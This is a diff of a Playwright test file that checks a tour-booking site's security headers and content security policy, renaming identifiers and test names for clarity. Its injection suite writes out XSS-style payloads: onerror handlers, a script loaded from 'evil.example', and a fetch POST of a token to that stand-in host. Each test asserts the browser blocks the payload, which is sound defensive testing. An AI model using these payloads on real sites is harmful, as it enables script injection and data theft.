@@ -1,7 +1,7 @@
 import type { Page } from '@playwright/test';
 import { expect, site, test } from '../support/test.ts';
 
-const ANSWERS: [string, number][] = [
+const PATHS: [string, number][] = [
   ['/', 200],
   ['/en/group-tour/17', 200],
   ['/booking/17', 200],
@@ -14,11 +14,11 @@ const ANSWERS: [string, number][] = [
   ['/og/tour/17.png', 200],
 ];
 
-for (const [path, status] of ANSWERS) {
-  test(`${path} says what a browser may do with it`, async ({ request }) => {
-    const answer = await request.get(path, { maxRedirects: 0 });
-    expect(answer.status()).toBe(status);
-    const headers = answer.headers();
+for (const [path, status] of PATHS) {
+  test(`${path} has a content security policy and the other security headers`, async ({ request }) => {
+    const response = await request.get(path, { maxRedirects: 0 });
+    expect(response.status()).toBe(status);
+    const headers = response.headers();
     const policy = new Map(
       headers['content-security-policy']?.split('; ').map((line) => {
         const [name = '', ...values] = line.split(' ');
@@ -45,31 +45,33 @@ for (const [path, status] of ANSWERS) {
   });
 }
 
-test('what is no page runs nothing and is in no frame, nor what stands where there is none', async ({ request }) => {
-  const build = (await (await request.get('/')).text()).match(/"buildId":"([^"]+)"/)?.[1];
-  const picture = (await (await request.get('/blog')).text()).match(/\/_next\/image\?[^" ]+/)?.[0];
+test('data, images and missing files have a policy without scripts and frames', async ({ request }) => {
+  const buildId = (await (await request.get('/')).text()).match(/"buildId":"([^"]+)"/)?.[1];
+  const imagePath = (await (await request.get('/blog')).text()).match(/\/_next\/image\?[^" ]+/)?.[0];
   const files: [string | undefined, number][] = [
-    [`/_next/data/${build}/id/blog.json`, 200],
-    [picture?.replaceAll('&amp;', '&'), 200],
+    [`/_next/data/${buildId}/id/blog.json`, 200],
+    [imagePath?.replaceAll('&amp;', '&'), 200],
     ['/_next/image?url=nothing', 400],
     ['/_next/static/none.js', 404],
     ['/images/none.svg', 404],
     ['/fonts/none.woff2', 404],
   ];
   for (const [file = '', status] of files) {
-    const answer = await request.get(file);
-    expect([file, answer.status()]).toEqual([file, status]);
-    expect(answer.headers()['content-security-policy'], file).toMatch(
+    const response = await request.get(file);
+    expect([file, response.status()]).toEqual([file, status]);
+    expect(response.headers()['content-security-policy'], file).toMatch(
       /^default-src 'none'; frame-ancestors 'none'(; sandbox)?$/,
     );
-    expect(answer.headers(), file).toMatchObject({
+    expect(response.headers(), file).toMatchObject({
       'x-content-type-options': 'nosniff',
       'cross-origin-resource-policy': 'same-origin',
     });
   }
 });
 
-test('files that a page names are what they say, and of this site', async ({ request }) => {
+test('the files of a page have nosniff, a policy without scripts and a same-origin resource policy', async ({
+  request,
+}) => {
   const html = await (await request.get('/')).text();
   const files = [...new Set(html.match(/\/_next\/static\/[\w./-]+\.(?:js|css|woff2)/g))];
   expect(files.length).toBeGreaterThan(5);
@@ -82,62 +84,64 @@ test('files that a page names are what they say, and of this site', async ({ req
   }
 });
 
-test.describe('what somebody managed to write into a page', () => {
+test.describe('content injected into a page', () => {
   test.use({ expectsPolicy: true });
 
-  /** Does this in the page; the directives that refused something of it, and whether any of it ran. */
-  async function tryIn(page: Page, act: () => void) {
+  /** Runs the injection in the page; returns the violated directives, and whether injected code has run. */
+  async function inject(page: Page, injection: () => void) {
     await page.evaluate(() => {
-      window.refused = [];
-      document.addEventListener('securitypolicyviolation', (event) => window.refused.push(event.effectiveDirective));
+      window.violatedDirectives = [];
+      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+        window.violatedDirectives.push(effectiveDirective);
+      });
     });
-    // Some of it throws, which is as good.
-    await page.evaluate(act).catch(() => undefined);
-    await expect.poll(() => page.evaluate(() => window.refused.length)).toBeGreaterThan(0);
-    return page.evaluate(() => ({ refused: [...new Set(window.refused)], ran: 'hasRun' in window }));
+    // The browser may refuse an injection with an exception.
+    await page.evaluate(injection).catch(() => undefined);
+    await expect.poll(() => page.evaluate(() => window.violatedDirectives.length)).toBeGreaterThan(0);
+    return page.evaluate(() => ({ directives: [...new Set(window.violatedDirectives)], hasRun: 'hasRun' in window }));
   }
 
   test.beforeEach(({ page }) => page.goto('/blog'));
 
-  test('text does not become HTML', async ({ page }) => {
+  test('a string is not parsed as HTML', async ({ page }) => {
     const markup = () => {
       document.body.innerHTML = '<img src="/nothing" onerror="window.hasRun = true">';
     };
-    expect(await tryIn(page, markup)).toEqual({ refused: ['require-trusted-types-for'], ran: false });
+    expect(await inject(page, markup)).toEqual({ directives: ['require-trusted-types-for'], hasRun: false });
     await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
   });
 
-  test('a script of another place is not loaded', async ({ page }) => {
+  test('a script of another origin is not loaded', async ({ page }) => {
     const script = () => {
       document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/a.js' }));
     };
-    expect(await tryIn(page, script)).toEqual({ refused: ['require-trusted-types-for'], ran: false });
+    expect(await inject(page, script)).toEqual({ directives: ['require-trusted-types-for'], hasRun: false });
   });
 
-  test('a handler written into an element does not run', async ({ page }) => {
+  test('an injected event handler does not run', async ({ page }) => {
     const handler = () => {
       const image = document.createElement('img');
       image.setAttribute('onerror', 'window.hasRun = true');
       image.src = '/nothing';
       document.body.append(image);
     };
-    expect(await tryIn(page, handler)).toEqual({ refused: ['require-trusted-types-for'], ran: false });
+    expect(await inject(page, handler)).toEqual({ directives: ['require-trusted-types-for'], hasRun: false });
   });
 
-  test('nothing is told to another host', async ({ page }) => {
-    const telling = () => fetch('https://evil.example/', { method: 'POST', body: 'token' }).then(() => undefined);
-    expect(await tryIn(page, telling as () => void)).toEqual({ refused: ['connect-src'], ran: false });
+  test('no data is sent to another host', async ({ page }) => {
+    const send = () => fetch('https://evil.example/', { method: 'POST', body: 'token' }).then(() => undefined);
+    expect(await inject(page, send as () => void)).toEqual({ directives: ['connect-src'], hasRun: false });
   });
 
-  test('a style written into an element does not count', async ({ page }) => {
+  test('an injected style attribute has no effect', async ({ page }) => {
     const style = () => document.querySelector('h1')?.setAttribute('style', 'color: rgb(1, 2, 3)');
-    expect((await tryIn(page, style as () => void)).refused).toEqual(['style-src-attr']);
+    expect((await inject(page, style as () => void)).directives).toEqual(['style-src-attr']);
     await expect(page.getByRole('heading', { level: 1 })).not.toHaveCSS('color', 'rgb(1, 2, 3)');
   });
 
-  test('a style element of another text does not count', async ({ page }) => {
+  test('an injected style element is refused', async ({ page }) => {
     const style = () => document.head.append(Object.assign(document.createElement('style'), { textContent: 'h1{}' }));
-    expect((await tryIn(page, style as () => void)).refused).toEqual(['style-src-elem']);
+    expect((await inject(page, style as () => void)).directives).toEqual(['style-src-elem']);
   });
 
   test('no other page may show this one in a frame', async ({ page }) => {
@@ -150,6 +154,6 @@ test.describe('what somebody managed to write into a page', () => {
 
 declare global {
   interface Window {
-    refused: string[];
+    violatedDirectives: string[];
   }
 }
